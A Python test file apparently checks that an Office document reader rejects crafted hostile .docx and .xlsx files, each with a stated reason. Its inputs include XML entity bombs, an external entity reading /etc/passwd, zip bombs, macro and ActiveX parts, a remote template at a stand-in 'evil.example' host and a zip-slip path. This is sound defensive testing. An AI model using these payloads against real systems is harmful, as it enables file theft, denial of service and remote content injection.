"""Files made to hurt: refused with a reason before a parser sees them, or read up to a stated size."""

import io
import zipfile

import pytest
from forms_met import CASES
from made import docx, xlsx

from drafter.reading.file import read_file
from drafter.reading.formats.workbook import MOST_ROWS

DOCTYPE = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
EXTERNAL = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def parts_of(path):
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name) for name in package.namelist()}


def repacked(path, parts):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)


@pytest.fixture
def good(tmp_path):
    """A sound document and a sound workbook, as parts."""
    found = {}
    for write, ending in ((docx, ".docx"), (xlsx, ".xlsx")):
        path = tmp_path / f"好{ending}"
        write(path, *CASES["全国申报表"].parts)
        found[ending] = parts_of(path)
    return found


MAIN = {".docx": "word/document.xml", ".xlsx": "xl/worksheets/sheet1.xml"}


def changed(part, old, new):
    def change(parts):
        assert old.encode() in parts[part]
        return parts | {part: parts[part].replace(old.encode(), new.encode(), 1)}

    return change


def added(name, data=b"x"):
    return lambda parts: parts | {name: data}


ATTACKS = {
    "实体炸弹docx": (".docx", lambda p: p | {MAIN[".docx"]: p[MAIN[".docx"]].replace(b"<w:document", DOCTYPE.encode() + b"<w:document", 1)}, "DOCTYPE"),
    "实体炸弹xlsx": (".xlsx", lambda p: p | {MAIN[".xlsx"]: DOCTYPE.encode() + p[MAIN[".xlsx"]]}, "DOCTYPE"),
    "外部实体docx": (".docx", lambda p: p | {MAIN[".docx"]: p[MAIN[".docx"]].replace(b"<w:document", EXTERNAL.encode() + b"<w:document", 1)}, "DOCTYPE"),
    "关系里的实体": (".xlsx", lambda p: p | {"_rels/.rels": EXTERNAL.encode() + b"<Relationships/>"}, "DOCTYPE"),
    "压缩炸弹": (".docx", added("word/media/image1.bin", b"\0" * 60_000_000), "压缩炸弹"),
    "正文炸弹": (".docx", lambda p: p | {MAIN[".docx"]: b"<w:document>" + b"<w:p/>" * 5_000_000 + b"</w:document>"}, "压缩炸弹"),
    "套着压缩包": (".docx", added("word/embeddings/内层.zip", b"PK\x03\x04"), "套着压缩文件"),
    "套着文档": (".xlsx", added("xl/embeddings/内层.docx", b"PK\x03\x04"), "套着压缩文件"),
    "宏": (".xlsx", added("xl/vbaProject.bin"), "宏"),
    "控件": (".docx", added("word/activeX/activeX1.bin"), "控件"),
    "外部工作簿": (".xlsx", added("xl/externalLinks/externalLink1.xml", b"<externalLink/>"), "外部"),
    "远程模板": (
        ".docx",
        added(
            "word/_rels/settings.xml.rels",
            b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" TargetMode="External"'
            b' Target="http://evil.example/t.dotm"/></Relationships>',
        ),
        "外部内容",
    ),
    "部件太多": (".docx", lambda p: p | {f"word/x{n}": b"" for n in range(6_000)}, "部件"),
    "最后一格": (".xlsx", changed(MAIN[".xlsx"], "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'), "远在表外"),
    "巨大合并": (".xlsx", changed(MAIN[".xlsx"], "</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:XFD20000"/></mergeCells>'), "合并了一大片"),
    "段落太多": (".docx", lambda p: p | {MAIN[".docx"]: b"<w:document><w:body>" + b"".join(b"<w:p><w:r><w:t>%d</w:t></w:r></w:p>" % n for n in range(210_000)) + b"</w:body></w:document>"}, "超过 200000 段"),
    "嵌套太深": (".docx", lambda p: p | {MAIN[".docx"]: b"<w:document>" + b"<w:tbl><w:tr><w:tc>" * 3_000}, "嵌套太深"),
    "没有正文": (".docx", lambda _: {"[Content_Types].xml": b"<Types/>"}, "不是 Word 文档"),
    "断在中间": (".xlsx", lambda p: p | {MAIN[".xlsx"]: p[MAIN[".xlsx"]][:400]}, "损坏"),
}  # fmt: skip


@pytest.mark.parametrize(("ending", "attack", "reason"), ATTACKS.values(), ids=ATTACKS)
def test_a_file_made_to_hurt_is_refused_with_its_reason(tmp_path, good, ending, attack, reason):
    path = tmp_path / f"坏{ending}"
    repacked(path, attack(good[ending]))

    result = read_file(path)

    assert result.tables == ()
    (problem,) = result.problems
    assert reason in problem.reason
    assert problem.cure


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "空"),
        (b"PK\x03\x04", "损坏"),
        (b"PK\x03\x04" + b"\0" * 500, "损坏"),
        (b"%PDF-1.7 ...", "PDF"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "密码"),
        (bytes(range(256)) * 40, "损坏"),
    ],
)
@pytest.mark.parametrize("ending", [".docx", ".xlsx"])
def test_a_file_that_is_no_office_file_says_what_it_is(tmp_path, data, reason, ending):
    path = tmp_path / f"坏{ending}"
    path.write_bytes(data)
    (problem,) = read_file(path).problems

    assert reason in problem.reason


def test_an_encrypted_entry_is_a_password(tmp_path, good):
    path = tmp_path / "密.docx"
    repacked(path, good[".docx"])
    data = bytearray(path.read_bytes())
    at = data.rfind(b"PK\x01\x02")
    data[at + 8] |= 1
    path.write_bytes(bytes(data))
    (problem,) = read_file(path).problems

    assert "密码" in problem.reason


def test_a_long_honest_sheet_is_read_up_to_the_stated_row(tmp_path, good):
    rows = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>%d</t></is></c></row>' % (n, n, n)
        for n in range(100, MOST_ROWS + 500)
    )
    parts = dict(good[".xlsx"])
    parts[MAIN[".xlsx"]] = parts[MAIN[".xlsx"]].replace(b"</sheetData>", rows + b"</sheetData>")
    path = tmp_path / "长.xlsx"
    repacked(path, parts)

    result = read_file(path)

    assert [t.project.name for t in result.tables] == ["校舍修缮"]
    assert [f"只读了前 {MOST_ROWS} 行" in p.reason for p in result.problems if "太长" in p.reason] == [True]


def test_hyperlinks_charts_and_a_local_template_are_no_attack(tmp_path, good):
    rels = (
        b'<Relationships><Relationship Id="r9" Type="http://x/hyperlink" TargetMode="External" Target="https://www.gov.example/"/>'
        b'<Relationship Id="r8" Type="http://x/attachedTemplate" TargetMode="External" Target="file:///C:/Users/a/Normal.dotm"/></Relationships>'
    )
    parts = good[".docx"] | {
        "word/_rels/settings.xml.rels": rels,
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK",
    }
    path = tmp_path / "好.docx"
    repacked(path, parts)

    assert [t.project.name for t in read_file(path).tables] == ["校舍修缮"]


def test_a_zip_slip_name_and_a_doubled_part_do_no_harm(tmp_path, good):
    path = tmp_path / "怪.docx"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        for name, data in good[".docx"].items():
            package.writestr(name, data)
        package.writestr("../../tmp/evil.xml", b"x")
    path.write_bytes(buffer.getvalue())

    assert [t.project.name for t in read_file(path).tables] == ["校舍修缮"]
